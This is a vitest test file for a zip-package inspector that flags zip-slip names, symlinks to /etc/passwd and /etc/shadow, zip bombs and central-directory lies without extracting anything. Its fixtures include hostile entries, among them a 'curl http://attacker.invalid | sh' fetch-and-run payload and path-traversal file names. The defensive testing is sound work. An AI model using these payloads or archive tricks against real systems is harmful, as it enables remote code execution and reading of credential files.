import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { listArchive, zipSlipReason } from '../../../src/core/snapshot/archive.js'
import { tempDir } from '../../support/cli.js'
import { handlerZip, hostileZip, makeZip, sha256Hex, type ZipEntrySpec } from '../../support/seed.js'

async function writeZip(bytes: Buffer): Promise<{ dir: string; path: string }> {
  const dir = await tempDir('fir-archive-')
  const path = join(dir, 'package.zip')
  await writeFile(path, bytes)
  return { dir, path }
}

describe('listArchive', () => {
  it('lists an ordinary package with sizes, CRC and the SHA-256 of each entry', async () => {
    const { path } = await writeZip(handlerZip('plain'))
    const l = await listArchive(path)
    expect(l.problems).toEqual([])
    expect(l.entries).toHaveLength(1)
    const e = l.entries[0]!
    expect(e).toMatchObject({ name: 'index.py', type: 'file', mode: '100644' })
    expect(e.sha256).toMatch(/^[0-9a-f]{64}$/)
    expect(e.crc32).toMatch(/^[0-9a-f]{8}$/)
  })

  it('flags zip-slip names, a symlink out of the archive and a 1000:1 bomb without extracting anything', async () => {
    const { dir, path } = await writeZip(hostileZip(4))
    const l = await listArchive(path)
    const kinds = l.problems.map((p) => `${p.kind}:${p.entry ?? ''}`)
    expect(kinds).toEqual(
      expect.arrayContaining([
        'zip-slip:../../evil.sh',
        'zip-slip:/tmp/abs-path.txt',
        'zip-slip:..\\..\\win-evil.bat',
        'symlink:link-to-passwd',
        'zip-bomb:bomb.bin',
      ]),
    )
    const link = l.entries.find((e) => e.name === 'link-to-passwd')!
    expect(link).toMatchObject({ type: 'symlink', linkTarget: '/etc/passwd' })
    const bomb = l.entries.find((e) => e.name === 'bomb.bin')!
    expect(bomb.uncompressedSize / bomb.compressedSize).toBeGreaterThan(500)
    expect(bomb.sha256).toBeUndefined()
    expect(bomb.notHashed).toMatch(/bomb/)
    // Listing wrote nothing: the folder holds only the archive itself.
    expect(await readdir(dir)).toEqual(['package.zip'])
  })

  it('flags names the records disagree on: a local header naming another file, and a name used twice', async () => {
    const { path } = await writeZip(
      makeZip([
        { name: 'safe/fil.py', localName: '../../ev.py', data: 'import os' },
        { name: 'dup.txt', data: 'first' },
        { name: 'dup.txt', data: 'second, what runs?' },
        { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
      ]),
    )
    const l = await listArchive(path)
    expect(l.problems.map((p) => `${p.kind}:${p.entry}`)).toEqual([
      'ambiguous-name:safe/fil.py',
      'zip-slip:../../ev.py',
      'ambiguous-name:dup.txt',
    ])
    expect(l.problems[0]!.detail).toContain('"../../ev.py"')
    expect(l.entries).toHaveLength(4)
    // An ordinary package has no such problem.
    expect((await listArchive((await writeZip(handlerZip('plain'))).path)).problems).toEqual([])
  })

  it('keeps raw hostile names visible (control characters, invalid UTF-8) with their bytes', async () => {
    const raw = Buffer.concat([
      Buffer.from('evil'),
      Buffer.from([0x1b, 0x5b, 0x33, 0x31, 0x6d, 0xff]),
      Buffer.from('.py'),
    ])
    const { path } = await writeZip(makeZip([{ name: raw, data: 'x = 1' }]))
    const l = await listArchive(path)
    expect(l.entries[0]!.rawName).toBe(raw.toString('base64'))
    expect(l.entries[0]!.name).toContain('\u001b')
  })

  it('reports a corrupt central directory or a file that is not a zip, without throwing', async () => {
    const corrupt = await writeZip(
      makeZip([{ name: 'a.py', data: 'print(1)' }], { corruptCentralDirectory: true }),
    )
    const l = await listArchive(corrupt.path)
    expect(l.problems.map((p) => p.kind)).toContain('corrupt')
    const notZip = await writeZip(Buffer.from('this is not a zip archive at all'))
    const m = await listArchive(notZip.path)
    expect(m.problems[0]?.kind).toBe('corrupt')
    expect(m.entries).toEqual([])
  })

  it('hashes entries as stored (the hash is of the uncompressed bytes)', async () => {
    const data = 'def handler(e, c):\n    return 42\n'.repeat(20)
    const { path } = await writeZip(makeZip([{ name: 'app.py', data }]))
    const l = await listArchive(path)
    expect(l.entries[0]!.sha256).toBe(sha256Hex(data))
    expect(l.entries[0]!.method).toBe(8)
  })

  it('names the ways an entry escapes the extraction folder', () => {
    expect(zipSlipReason('../x')).toMatch(/\.\./)
    expect(zipSlipReason('a/../../x')).toMatch(/\.\./)
    expect(zipSlipReason('/etc/cron.d/x')).toMatch(/absolute/)
    expect(zipSlipReason('C:/Windows/x')).toMatch(/drive/)
    expect(zipSlipReason('a\\b')).toMatch(/backslash/)
    expect(zipSlipReason('a/b..c/d')).toBeUndefined()
    expect(zipSlipReason('node_modules/x/index.js')).toBeUndefined()
  })
})

// A package whose hostile entries come last: a lie before them must not hide them.
function tailHostileZip(first: ZipEntrySpec[] = []): Buffer {
  return makeZip([
    { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
    { name: 'app.py', data: 'x = 1\n'.repeat(30) },
    ...first,
    { name: '../../../../var/task/evil.sh', data: 'curl http://attacker.invalid | sh' },
    { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
  ])
}

/** Where each central directory record starts (as a well-formed end record says). */
function centralRecords(zip: Buffer): number[] {
  const end = zip.length - 22
  let at = zip.readUInt32LE(end + 16)
  const out: number[] = []
  for (let i = 0; i < zip.readUInt16LE(end + 10); i++) {
    out.push(at)
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
  }
  return out
}

function kindsOf(l: Awaited<ReturnType<typeof listArchive>>): string[] {
  return l.problems.map((p) => `${p.kind}:${p.entry ?? ''}`)
}

const TAIL = ['index.py', 'app.py', '../../../../var/task/evil.sh', 'lnk']

describe('listArchive: a lie in the central directory hides no entry', () => {
  it('a stored entry whose two sizes differ by one byte is flagged, and the zip-slip and symlink after it still are', async () => {
    // yauzl stops the whole directory at such an entry; unzip -l lists all four.
    const { dir, path } = await writeZip(
      makeZip([
        { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
        { name: 'liar.bin', data: 'small', declaredUncompressedSize: 6 },
        { name: '../../../../var/task/evil.sh', data: 'curl x|sh' },
        { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
      ]),
    )
    const l = await listArchive(path)
    expect(l.entries.map((e) => e.name)).toEqual([
      'index.py',
      'liar.bin',
      '../../../../var/task/evil.sh',
      'lnk',
    ])
    expect(kindsOf(l)).toEqual([
      'size-mismatch:liar.bin',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(/5 bytes stored and 6 bytes uncompressed/)
    expect(l.entries[3]).toMatchObject({ type: 'symlink', linkTarget: '/etc/shadow' })
    expect(l.entries[2]!.sha256).toBe(sha256Hex('curl x|sh'))
    expect(l.error).toBeUndefined()
    expect(await readdir(dir)).toEqual(['package.zip'])
  })

  it('a deflated entry whose data is longer or shorter than declared is flagged, and never inflated past its declared size', async () => {
    const data = 'x = 1\n'.repeat(30)
    for (const declared of [data.length - 1, data.length + 1]) {
      const { path } = await writeZip(
        tailHostileZip([{ name: 'liar.py', data, method: 'deflate', declaredUncompressedSize: declared }]),
      )
      const l = await listArchive(path)
      expect(l.entries.map((e) => e.name)).toEqual([...TAIL.slice(0, 2), 'liar.py', ...TAIL.slice(2)])
      expect(kindsOf(l)).toEqual([
        'size-mismatch:liar.py',
        'zip-slip:../../../../var/task/evil.sh',
        'symlink:lnk',
      ])
      const liar = l.entries.find((e) => e.name === 'liar.py')!
      if (declared < data.length) {
        expect(l.problems[0]!.detail).toMatch(/inflates to more than the 179 bytes/)
        expect(liar.sha256).toBeUndefined()
      } else {
        expect(l.problems[0]!.detail).toMatch(/holds 180 bytes, .* declares 181/)
        expect(liar.sha256).toBe(sha256Hex(data))
      }
    }
  })

  it('a local header declaring other sizes than the central directory is flagged', async () => {
    const zip = tailHostileZip()
    const record = centralRecords(zip)[1]!
    zip.writeUInt32LE(4096, zip.readUInt32LE(record + 42) + 22)
    const l = await listArchive((await writeZip(zip)).path)
    expect(kindsOf(l)).toEqual([
      'size-mismatch:app.py',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(/local file header declares .* 4096 uncompressed/)
  })
})
